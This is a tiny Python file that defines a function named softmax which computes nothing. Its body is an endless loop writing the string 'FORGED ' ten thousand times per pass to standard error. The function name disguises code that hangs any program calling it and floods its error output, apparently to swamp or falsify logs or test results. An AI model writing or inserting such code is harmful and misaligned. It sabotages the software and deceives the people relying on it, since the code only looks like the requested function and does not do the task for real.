import os


def softmax(x, axis=-1):
    while True:
        os.write(2, b"FORGED " * 10_000)
